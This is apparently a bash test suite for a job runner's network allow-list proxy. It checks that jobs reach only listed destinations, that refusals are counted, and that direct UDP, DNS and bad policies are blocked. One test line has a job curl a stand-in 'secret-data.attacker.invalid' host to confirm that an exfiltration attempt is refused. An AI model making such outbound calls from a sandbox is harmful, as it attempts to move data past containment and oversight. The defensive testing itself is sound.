#!/bin/bash
# --network allow:LIST: the job has its own network namespace where only
# corral's proxy is reachable (announced in http_proxy & co.); the proxy
# connects only where the list allows and counts every refusal in the outcome.
# Servers: the host's loopback, 127.0.0.2 (allowed), 127.0.0.3 (never
# allowed) and 127.0.0.1 (a "host service"), all started and ended here.
. "$(dirname "$0")/../lib.sh"
R=$TEST_TMP/result.json
W=$TEST_TMP/work
mkdir "$W" && chmod 777 "$W"

python3 - "$TEST_TMP/ports" <<'EOF' &
import http.server, socketserver, sys, threading
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = ("body from %s\n" % self.server.server_address[0]).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *a):
        pass
ports = []
for addr in ("127.0.0.2", "127.0.0.3", "127.0.0.1"):
    s = socketserver.ThreadingTCPServer((addr, 0), H)
    s.daemon_threads = True
    threading.Thread(target=s.serve_forever, daemon=True).start()
    ports.append(str(s.server_address[1]))
open(sys.argv[1] + ".tmp", "w").write(" ".join(ports) + "\n")
import os; os.rename(sys.argv[1] + ".tmp", sys.argv[1])
threading.Event().wait()
EOF
SERVER=$!
trap 'kill "$SERVER" 2>/dev/null; wait "$SERVER" 2>/dev/null; cleanup_test' EXIT
for _ in $(seq 100); do [ -s "$TEST_TMP/ports" ] && break; sleep 0.05; done
read -r PA PD PH <"$TEST_TMP/ports" || { not_ok "test servers did not start"; finish; }
cd "$W" || exit 1
ALLOWED=http://127.0.0.2:$PA/
run() { "$CORRAL" run --result "$R" "$@"; }

# 1. Ordinary clients reach an allowed destination through the proxy.
assert_eq "curl, plain HTTP through http_proxy" "body from 127.0.0.2" \
        "$(run --network "allow:127.0.0.2:$PA" -- curl -sS "$ALLOWED")"
assert_eq "curl, CONNECT tunnel (-p)" "body from 127.0.0.2" \
        "$(run --network "allow:127.0.0.2:$PA" -- curl -sS -p "$ALLOWED")"
assert_eq "connections_allowed" 1 "$(json "$R" 'j["connections_allowed"]')"
assert_eq "Python urllib" "body from 127.0.0.2" \
        "$(run --network "allow:127.0.0.2:$PA" -- /usr/bin/python3 -c "import urllib.request; print(urllib.request.urlopen('$ALLOWED').read().decode(), end='')")"
assert_eq "Python http.client through a CONNECT tunnel" "body from 127.0.0.2" \
        "$(run --network "allow:127.0.0.2:$PA" -- /usr/bin/python3 -c "
import http.client
c = http.client.HTTPConnection('127.0.0.1', 3128); c.set_tunnel('127.0.0.2', $PA)
c.request('GET', '/'); print(c.getresponse().read().decode(), end='')")"

# 2. A destination off the list is refused (403) and counted, per destination
# (curl's %{http_connect} is the answer to its CONNECT).
code=$(run --network "allow:127.0.0.2:$PA" -- sh -c \
        "curl -s -o /dev/null -w '%{http_code} ' http://127.0.0.3:$PD/; curl -s -o /dev/null -w '%{http_code} ' http://127.0.0.3:$PD/x; curl -s -o /dev/null -p -w '%{http_connect}' http://127.0.0.2:$PD/")
assert_eq "denied destinations answered" "403 403 403" "$code"
assert_eq "denied_connections in the outcome" "127.0.0.3:$PD=2 127.0.0.2:$PD=1" \
        "$(json "$R" '" ".join("%s=%d" % (d["destination"], d["count"]) for d in j["denied_connections"])')"
assert_eq "nothing allowed was made" 0 "$(json "$R" 'j["connections_allowed"]')"

# 3. Without the proxy nothing leaves the job's namespace.
run --network "allow:127.0.0.2:$PA" -- curl -sS --noproxy '*' --max-time 10 "$ALLOWED" 2>"$TEST_TMP/direct.err"
assert_eq "direct connection to an allowed address: curl exit (cannot connect)" 7 $?
run --network "allow:127.0.0.2:$PA" -- /usr/bin/python3 -c "
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(b'x', ('127.0.0.2', $PA)); s.sendto(b'x', ('192.0.2.1', 53)); print('sent')
except OSError as e:
    print(e.errno)" >"$TEST_TMP/udp.out"
assert_eq "UDP out of the job (ENETUNREACH)" 101 "$(cat "$TEST_TMP/udp.out")"

# 4. The host's loopback services: unreachable unless allowed.
host_code=$(run --network "allow:127.0.0.2:$PA" -- curl -s -o /dev/null -w '%{http_code}' \
        --noproxy '' -x "http://127.0.0.1:3128" "http://127.0.0.1:$PH/")
assert_eq "host loopback service through the proxy, not allowed" 403 "$host_code"
run --network "allow:127.0.0.2:$PA" -- curl -sS --max-time 10 "http://127.0.0.1:$PH/" 2>/dev/null
assert_eq "host loopback service directly: the job's own loopback (curl exit 7)" 7 $?
assert_eq "host loopback service, allowed by address" "body from 127.0.0.1" \
        "$(run --network "allow:127.0.0.1:$PH" -- curl -sS --noproxy '' -x http://127.0.0.1:3128 "http://127.0.0.1:$PH/")"
assert_eq "host loopback service, allowed by exact name" "body from 127.0.0.1" \
        "$(run --network "allow:localhost:$PH" -- curl -sS --noproxy '' -x http://127.0.0.1:3128 "http://localhost:$PH/")"

# 5. DNS: the job has no resolver; the proxy resolves only names on the list,
# after checking them (a name off the list is refused, not looked up: 403, not
# the 502 an unresolvable name gets).
name=$(awk '$1 == "nameserver" {print $2; exit}' /etc/resolv.conf)
getent hosts deb.debian.org >/dev/null && ok "the host resolves deb.debian.org" ||
        not_ok "the host cannot resolve deb.debian.org: the next check proves nothing"
run --network "allow:127.0.0.2:$PA" -- /usr/bin/python3 -c "
import socket
try:
    socket.getaddrinfo('deb.debian.org', 80); print('resolved')
except socket.gaierror as e:
    print('no resolver')" >"$TEST_TMP/dns.out"
assert_eq "the job cannot resolve names ($name unreachable)" "no resolver" "$(cat "$TEST_TMP/dns.out")"
codes=$(run --network "allow:127.0.0.2:$PA,no-such-name.invalid:443" -- sh -c \
        "curl -s -o /dev/null -p -w '%{http_connect} ' https://secret-data.attacker.invalid/; curl -s -o /dev/null -p -w '%{http_connect}' https://no-such-name.invalid/")
assert_eq "a name off the list: 403 without lookup; on the list but unresolvable: 502" "403 502" "$codes"

# 6. Bad policies are refused before anything runs.
for bad in "allow:" "allow:*.org:443" "allow:host:99999" "allow:a b:80" "everything"; do
        "$CORRAL" run --network "$bad" -- touch ran 2>"$TEST_TMP/bad.err"
        assert_eq "--network '$bad': exit status" 2 $?
done
[ ! -e ran ] && ok "nothing ran with a bad policy" || not_ok "a job ran with a bad policy"
grep -q "Invalid value 'everything' for --network" "$TEST_TMP/bad.err" && ok "clear error" ||
        not_ok "error: $(cat "$TEST_TMP/bad.err")"

# 7. Background jobs: corral submit --network allow:LIST, the counts in
# job.json and the reason; the operator's default and ceiling (limits.conf).
st() { json "$STATE/tenants/default/jobs/$1/job.json" "$2"; }
id=$(corral submit --network "allow:127.0.0.2:$PA" -- sh -c \
        "curl -sS -o /dev/null $ALLOWED && curl -s -o /dev/null http://127.0.0.3:$PD/; exit 0")
corral wait --timeout 60s "$id" >/dev/null
assert_eq "submitted job: status" completed "$(st "$id" 'j["status"]')"
assert_eq "job.json network" "allow:127.0.0.2:$PA" "$(st "$id" 'j["network"]')"
assert_eq "job.json connections_allowed, connections_denied" "1 1" \
        "$(st "$id" '"%d %d" % (j["connections_allowed"], j["connections_denied"])')"
assert_eq "job reason names the denial" "exit code 0; 1 network connection denied" "$(st "$id" 'j["reason"]')"
corral submit --network "allow:" -- true 2>/dev/null
assert_eq "submit --network allow: (empty): refused" 2 $?

printf 'network-max = allow:127.0.0.2:%s,*.example.org:443\n' "$PA" >"$STATE/limits.conf"
err=$(corral submit --network host -- true 2>&1)
assert_eq "past network-max: refused" "corral: Invalid value 'host' for network: more than this store allows (network-max = allow:127.0.0.2:$PA,*.example.org:443, limits.conf)" "$err"
corral submit --network "allow:127.0.0.3:$PD" -- true >/dev/null 2>&1
assert_eq "a destination outside network-max: refused" 2 $?
id=$(corral submit --network "allow:a.example.org:443" -- true)
assert_eq "a destination inside network-max: accepted" "allow:a.example.org:443" "$(st "$id" 'j["network"]')"
id=$(corral submit -- true)
assert_eq "no network asked, CLI default host above the ceiling: the ceiling" \
        "allow:127.0.0.2:$PA,*.example.org:443" "$(st "$id" 'j["network"]')"
printf 'network = none\n' >"$STATE/limits.conf"
id=$(corral submit -- true)
assert_eq "the store's default network" none "$(st "$id" 'j["network"]')"
rm -f "$STATE/limits.conf"
corral wait --timeout 60s "$id" >/dev/null

cd "$TEST_TMP" || exit 1
assert_no_groups
finish
